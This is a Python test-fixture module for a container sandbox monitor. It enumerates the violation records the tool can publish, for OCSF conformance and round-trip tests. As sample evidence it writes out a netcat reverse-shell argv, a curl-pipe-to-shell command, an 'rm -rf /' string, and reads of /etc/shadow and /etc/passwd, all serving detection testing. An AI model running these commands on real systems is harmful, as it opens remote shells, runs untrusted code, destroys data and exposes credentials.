"""Every shape of violation sandguard can publish: each rule with the evidence it carries,
each evidence kind, activity, disposition and mode, and the optional fields unknown.

Shared by the OCSF conformance tests and the round-trip tests: one list of shapes, so a
new rule or evidence kind is checked everywhere by adding it here.
"""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from typing import Any

from schemas import (
    Disposition,
    Evidence,
    ProcessInfo,
    Violation,
    ViolationActivity,
    stable_id,
)
from schemas.rules import RULES

MODES = ("enforce", "audit")

FULL_PROCESS = ProcessInfo(
    pid=48211, ns_pid=7, ppid=48200, uid=1000, comm="nc", exe="/usr/bin/nc.openbsd",
    argv=("nc", "-e", "/bin/sh", "127.0.0.1", "4444"), state="S", start_time=1_764_000_000_123,
)  # fmt: skip
# What a process listing gives for a kernel thread or a process that exited mid-read.
BARE_PROCESS = ProcessInfo(pid=48212, ppid=1, uid=0, comm="")
ODD_ARGV_PROCESS = ProcessInfo(
    pid=48213, ppid=1, uid=65534, comm="sh", exe="/bin/sh", argv_truncated=True,
    argv=("sh", "-c", "echo 'a b' \"$HOME\"; rm -rf /", "", "tab\there", "new\nline", "ünï"),
)  # fmt: skip
COMMAND = "curl -s http://127.0.0.1:8080/x | sh"
SAMPLES: tuple[dict[str, Any], ...] = (
    {"time": 1_764_000_000_000, "pids_current": 10, "pids_max": 10, "pids_max_events": 3},
    {"time": 1_764_000_001_000, "cpu_percent": {"in_force": None, "policy": 25.0}},
)

# A kernel connect event's facts as the engine puts them in samples (ConnectEvent's names).
CONNECT = {
    "source": "kernel:bpf", "event_id": "e1", "pid": 48211, "ns_pid": None, "comm": "nc",
    "exe": "/usr/bin/nc.openbsd", "protocol": "tcp", "daddr": "127.0.0.1", "dport": 4444, "result": 0,
}  # fmt: skip

EVIDENCE_KINDS: dict[str, Evidence] = {
    "process": Evidence(process=FULL_PROCESS),
    "process-bare": Evidence(process=BARE_PROCESS),
    "process-odd-argv": Evidence(process=ODD_ARGV_PROCESS),
    "command-refused": Evidence(command=COMMAND),
    "file": Evidence(path="/etc/shadow"),
    "file-root": Evidence(path="/"),
    "samples": Evidence(samples=SAMPLES),
    "connection": Evidence(process=FULL_PROCESS, samples=(CONNECT,)),
    "connection-v6-udp": Evidence(samples=({**CONNECT, "daddr": "::1", "protocol": "udp", "dport": 53},)),
    "connection-odd": Evidence(
        samples=(
            {**CONNECT, "daddr": "10.0.0.300"},
            {**CONNECT, "dport": -1, "protocol": "other"},
            {**CONNECT, "daddr": ""},
        )
    ),
    "none": Evidence(),
    "all": Evidence(process=FULL_PROCESS, command=COMMAND, path="/work/../etc/passwd", samples=SAMPLES),
}

# The evidence each rule's processor attaches (processors/engine).
_RULE_EVIDENCE = {
    "command.denied": "command-refused",
    "file.denied": "file",
    "process.blocked": "process",
    "process.not_allowed": "process",
    "process.suspicious": "process",
    "process.reverse_shell": "process",
}
# Process rules also judge an exec that ran through the API, known by its command only.
EXEC_RULES = ("process.blocked", "process.not_allowed", "process.suspicious", "process.reverse_shell")


def rule_evidence(rule_id: str) -> Evidence:
    return EVIDENCE_KINDS[_RULE_EVIDENCE.get(rule_id, "samples")]


def violation(rule_id: str = "process.reverse_shell", **kw: Any) -> Violation:
    info = RULES[rule_id]
    base: dict[str, Any] = {
        "event_id": stable_id("test-event", rule_id, *sorted(map(str, kw.items()))),
        "time": 1_764_000_002_000, "container_id": "3f" * 32, "host": "docker-host-1",
        "violation_id": stable_id("3f" * 32, rule_id, "subject", 29_400_000),
        "rule_id": rule_id, "violation_type": info.violation_type, "severity": info.severity,
        "title": info.title, "message": f"{info.title}: details", "count": 3,
        "first_seen": 1_764_000_000_000, "last_seen": 1_764_000_002_000,
        "sample_time": 1_764_000_002_000, "detected_time": 1_764_000_002_050,
        "policy_id": "pol-7", "policy_name": "agents", "policy_version": "4",
        "container_name": "sg-agent-1", "image": "sandguard/python:3",
        "labels": {"team": "ml", "sandguard.sandbox": "1"}, "evidence": rule_evidence(rule_id),
    }  # fmt: skip
    base.update(kw)
    return Violation.model_validate(base)


def lifecycle(rule_id: str, **kw: Any) -> Iterator[Violation]:
    """The rule in every activity, disposition and mode."""
    for activity, disposition, mode in itertools.product(ViolationActivity, Disposition, MODES):
        yield violation(rule_id, activity=activity, disposition=disposition, mode=mode, **kw)


# Optional fields sandguard may not know: each must be omitted, never null or empty.
UNKNOWNS: dict[str, dict[str, Any]] = {
    "no-host": {"host": ""},
    "no-name": {"container_name": ""},
    "no-image": {"image": ""},
    "no-labels": {"labels": {}},
    "label-key-with-equals": {"labels": {"a=b": "c", "d": "e=f"}},
    "no-policy": {"policy_id": "", "policy_name": "", "policy_version": ""},
    "no-message": {"message": "", "title": ""},
    "everything-unknown": {"host": "", "container_name": "", "image": "", "labels": {}, "policy_id": "",
                           "policy_name": "", "policy_version": "", "evidence": Evidence()},
    "image-registry-port": {"image": "registry.local:5000/team/img:2.1"},
    "image-digest": {"image": "img@sha256:" + "ab" * 32},
    "image-untagged": {"image": "busybox"},
    "time-differs": {"time": 1_764_000_001_000, "sample_time": 1_764_000_001_500},
}  # fmt: skip


def all_shapes() -> Iterator[tuple[str, Violation]]:
    """Every combination the conformance test validates, each with a readable name."""
    for rule_id in RULES:
        for v in lifecycle(rule_id):
            yield f"{rule_id}/{v.activity}/{v.disposition}/{v.mode}", v
    for rule_id in EXEC_RULES:
        for v in lifecycle(rule_id, evidence=EVIDENCE_KINDS["command-refused"]):
            yield f"{rule_id}(exec)/{v.activity}/{v.disposition}/{v.mode}", v
    for kind, ev in EVIDENCE_KINDS.items():
        for v in lifecycle("process.blocked", evidence=ev):
            yield f"evidence:{kind}/{v.activity}/{v.disposition}/{v.mode}", v
    for name, fields in UNKNOWNS.items():
        for v in lifecycle("memory.level", **fields):
            yield f"unknown:{name}/{v.activity}/{v.disposition}/{v.mode}", v
